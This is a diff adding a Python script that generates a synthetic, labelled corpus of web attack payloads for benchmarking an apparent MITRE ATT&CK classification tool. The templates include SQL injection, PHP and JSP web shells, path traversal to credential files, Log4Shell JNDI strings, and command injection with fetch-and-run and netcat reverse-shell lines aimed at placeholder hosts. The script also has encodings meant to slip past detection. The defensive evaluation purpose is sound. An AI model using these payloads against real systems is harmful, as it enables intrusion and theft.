@@ -0,0 +1,228 @@
+"""
+부하 테스트/평가용 합성 페이로드 코퍼스 생성기
+
+    cd mitre_ttp_reasoner
+    python -m benchmarks.generate_corpus --count 50000 --output tests/corpus_50k.jsonl
+    python -m benchmarks.generate_corpus --count 10000 --mix sqli=4,webshell=1,benign=5 --duplicate-ratio 0.3 \
+        --encodings none,url,double-url --output tests/corpus_dup.jsonl
+    python main.py --test-cases tests/corpus_50k.jsonl --concurrency 32 --checkpoint
+
+- 알려진 공격 계열 템플릿 + tests/test_cases.json 시드 케이스를 리터럴(파라미터명/값/테이블/명령/파일),
+  컨텍스트(메서드/경로), 인코딩(URL, 이중 URL, %uXXXX 유니코드, 대소문자 섞기) 단위로 변형
+- --mix 로 계열별 비율(라벨 분포), --duplicate-ratio 로 직전 케이스를 그대로 반복하는 비율
+  (시그니처/템플릿 캐시 효과 측정용)을 조절
+- 케이스를 하나씩 만들어 바로 JSONL 로 쓰므로 크기와 무관하게 메모리 사용량이 일정
+"""
+import sys
+import json
+import random
+import argparse
+from collections import Counter, deque
+from urllib.parse import quote
+
+FAMILIES = {
+    "sqli": {
+        "label": {"tid": "T1190", "tactic": "Initial Access", "description": "Exploit Public-Facing Application"},
+        "contexts": [("GET", "/api/v1/{resource}"), ("GET", "/{resource}.php"), ("POST", "/search")],
+        "templates": [
+            "{param}={n}' UNION SELECT NULL, {column}, {column2} FROM {table}--",
+            "{param}={n}' UNION ALL SELECT {column},{column2},NULL FROM information_schema.tables--",
+            "{param}={word}' OR '1'='1",
+            "{param}={n} AND SLEEP({small})--",
+            "{param}={n}; SELECT {column} FROM {table} WHERE '{small}'='{small}'"
+        ]
+    },
+    "webshell": {
+        "label": {"tid": "T1505.003", "tactic": "Persistence", "description": "Server Software Component: Web Shell"},
+        "contexts": [("POST", "/upload.php"), ("POST", "/wp-content/plugins/{resource}/upload.php"),
+                     ("PUT", "/uploads/{word}.php")],
+        "templates": [
+            "<?php system($_REQUEST['{param}']); ?>",
+            "<?php echo shell_exec($_GET['{param}']); ?>",
+            "<?php eval(base64_decode($_POST['{param}'])); ?>",
+            "<?php passthru($_REQUEST['{param}']); ?>",
+            "<% Runtime.getRuntime().exec(request.getParameter(\"{param}\")); %>"
+        ]
+    },
+    "traversal": {
+        "label": {"tid": "T1083", "tactic": "Discovery", "description": "File and Directory Discovery"},
+        "contexts": [("GET", "/download.php"), ("GET", "/static/{resource}"), ("GET", "/api/v1/files")],
+        "templates": [
+            "file={dots}{file}",
+            "{param}={dots}{file}",
+            "path=....//....//....//{file}",
+            "{param}={dots}{file}%00.{ext}"
+        ]
+    },
+    "cmdi": {
+        "label": {"tid": "T1059.004", "tactic": "Execution", "description": "Command and Scripting Interpreter: Unix Shell"},
+        "contexts": [("GET", "/cgi-bin/ping"), ("POST", "/api/v1/diagnostics"), ("GET", "/admin/{resource}")],
+        "templates": [
+            "host=127.0.0.1;{cmd}",
+            "{param}=127.0.0.1|{cmd}",
+            "{param}=`{cmd}`",
+            "{param}=$({cmd})",
+            "{param}={word}%0a{cmd}"
+        ]
+    },
+    "jndi": {
+        "label": {"tid": "T1190", "tactic": "Initial Access", "description": "Exploit Public-Facing Application"},
+        "contexts": [("GET", "/"), ("POST", "/login"), ("GET", "/api/v1/{resource}")],
+        "templates": [
+            "User-Agent: ${{jndi:ldap://{host}/{word}}}",
+            "X-Api-Version: ${{jndi:rmi://{host}:1099/{word}}}",
+            "{param}=${{${{lower:j}}ndi:${{lower:l}}dap://{host}/{word}}}"
+        ]
+    },
+    "benign": {
+        # 정상 트래픽: TID 대신 악성 여부로 채점 (test_evaluator.EvalStats)
+        "label": {"tid": "N/A", "tactic": "N/A", "description": "Benign traffic", "is_malicious": False},
+        "contexts": [("GET", "/api/v1/{resource}"), ("GET", "/search"), ("POST", "/login"), ("GET", "/{resource}")],
+        "templates": [
+            "{param}={n}",
+            "q={word}+{word2}&page={small}",
+            "username={word}&password={word2}{n}",
+            "{param}={word}&sort={column}&order=desc",
+            "{{\"{param}\": \"{word}\", \"limit\": {small}}}"
+        ]
+    }
+}
+
+LITERALS = {
+    "param": ["id", "user", "q", "item", "cat", "page", "name", "ref", "cmd", "c", "exec"],
+    "resource": ["users", "orders", "products", "reports", "profile", "export", "items", "admin"],
+    "column": ["username", "password", "email", "user()", "database()", "version()", "table_name"],
+    "table": ["users", "administrators", "accounts", "members", "wp_users"],
+    "word": ["alpha", "report", "invoice", "summer", "widget", "test", "admin", "guest", "backup"],
+    "host": ["attacker.example", "198.51.100.7", "evil.example.net", "203.0.113.45"],
+    "file": ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "var/www/.env"],
+    "ext": ["jpg", "png", "txt"],
+    "cmd": ["cat /etc/passwd", "id", "uname -a", "wget http://198.51.100.7/x.sh", "curl evil.example.net|sh",
+            "nc -e /bin/sh 203.0.113.45 4444"]
+}
+
+ENCODINGS = ("none", "url", "double-url", "unicode", "case")
+
+
+def encode(payload, encoding, rng):
+    """공격 구문 변형: 탐지 규칙/캐시 키를 우회하는 흔한 인코딩"""
+    if encoding == "url":
+        return quote(payload, safe="=&")
+    if encoding == "double-url":
+        return quote(quote(payload, safe="=&"), safe="=&")
+    if encoding == "unicode":
+        # IIS 식 %uXXXX 인코딩 (특수 문자만)
+        return "".join(f"%u{ord(ch):04x}" if not ch.isalnum() and ch not in "=&" else ch for ch in payload)
+    if encoding == "case":
+        return "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in payload)
+    return payload
+
+
+def fill(template, rng):
+    values = {key: rng.choice(choices) for key, choices in LITERALS.items()}
+    values.update(
+        column2=rng.choice(LITERALS["column"]), word2=rng.choice(LITERALS["word"]),
+        n=rng.randint(1, 99999), small=rng.randint(1, 20), dots="../" * rng.randint(2, 8)
+    )
+    return template.format(**values)
+
+
+def load_seeds(path):
+    """시드 케이스를 라벨별 계열로 추가 (페이로드는 그대로 쓰고 컨텍스트/인코딩만 변형)"""
+    families = {}
+    try:
+        with open(path, "r", encoding="utf-8") as f:
+            seeds = json.load(f)
+    except FileNotFoundError:
+        return families
+    for case in seeds:
+        family = families.setdefault(f"seed:{case['label']['tid']}", {"label": case['label'], "seeds": []})
+        family["seeds"].append(case)
+    return families
+
+
+def parse_mix(spec, families):
+    """'sqli=3,benign=1' -> 계열별 가중치 (지정하지 않으면 모든 계열 동일 비율)"""
+    if not spec:
+        return {name: 1.0 for name in families}
+    weights = {}
+    for part in spec.split(","):
+        name, _, weight = part.partition("=")
+        if name not in families:
+            raise ValueError(f"Unknown family: {name} (available: {', '.join(families)})")
+        weights[name] = float(weight or 1)
+    return weights
+
+
+def generate(count, weights, families, encodings=ENCODINGS, duplicate_ratio=0.0, seed=0, window=1000):
+    """케이스를 하나씩 생성 (중복은 최근 window 개 중에서 골라 메모리 사용량 고정)"""
+    rng = random.Random(seed)
+    names, probs = list(weights), list(weights.values())
+    recent = deque(maxlen=window)
+
+    for i in range(count):
+        case_id = f"SYN-{i:07d}"
+        if recent and rng.random() < duplicate_ratio:
+            yield {**rng.choice(recent), "id": case_id}
+            continue
+
+        family = families[rng.choices(names, probs)[0]]
+        if "seeds" in family:
+            seed_case = rng.choice(family["seeds"])
+            payload, context = seed_case["payload"], seed_case.get("context", "N/A")
+            # 시드는 컨텍스트의 경로만 바꿔 다른 엔드포인트로 들어온 것처럼 변형
+            if rng.random() < 0.5:
+                method, _, path = context.partition("\nPath: ")
+                context = f"{method}\nPath: /{rng.choice(LITERALS['resource'])}{path}"
+        else:
+            method, path = rng.choice(family["contexts"])
+            context = f"Method: {method}\nPath: {fill(path, rng)}"
+            payload = fill(rng.choice(family["templates"]), rng)
+
+        case = {
+            "id": case_id,
+            "context": context,
+            "payload": encode(payload, rng.choice(encodings), rng),
+            "label": family["label"]
+        }
+        recent.append(case)
+        yield case
+
+
+def main(args):
+    families = {**FAMILIES, **load_seeds(args.seeds)}
+    weights = parse_mix(args.mix, families)
+    encodings = args.encodings.split(",")
+    unknown = set(encodings) - set(ENCODINGS)
+    if unknown:
+        raise ValueError(f"Unknown encodings: {', '.join(sorted(unknown))} (available: {', '.join(ENCODINGS)})")
+
+    labels = Counter()
+    output = sys.stdout if args.output == "-" else open(args.output, "w", encoding="utf-8")
+    try:
+        for case in generate(args.count, weights, families, encodings, args.duplicate_ratio, args.seed):
+            labels[case["label"]["tid"]] += 1
+            output.write(json.dumps(case, ensure_ascii=False) + "\n")
+    finally:
+        if output is not sys.stdout:
+            output.close()
+    print(f"[*] {args.count} cases -> {args.output} | labels: {dict(labels)}", file=sys.stderr)
+
+
+def parse_args():
+    parser = argparse.ArgumentParser(description="Synthetic labeled payload corpus generator (JSONL)")
+    parser.add_argument("--count", type=int, default=10000, help="생성할 케이스 수")
+    parser.add_argument("--output", default="-", help="출력 JSONL 경로 (기본: 표준 출력)")
+    parser.add_argument("--mix", default=None,
+                        help=f"계열별 가중치, 예: sqli=3,benign=1 (계열: {', '.join(FAMILIES)}, seed:<TID>)")
+    parser.add_argument("--encodings", default=",".join(ENCODINGS),
+                        help="무작위로 적용할 인코딩 목록 (쉼표 구분)")
+    parser.add_argument("--duplicate-ratio", type=float, default=0.0,
+                        help="최근 케이스를 그대로 반복하는 비율 (id 만 다름)")
+    parser.add_argument("--seeds", default="tests/test_cases.json", help="변형할 시드 케이스 JSON")
+    parser.add_argument("--seed", type=int, default=0, help="난수 시드 (같은 값이면 같은 코퍼스)")
+    return parser.parse_args()
+
+
+if __name__ == "__main__":
+    main(parse_args())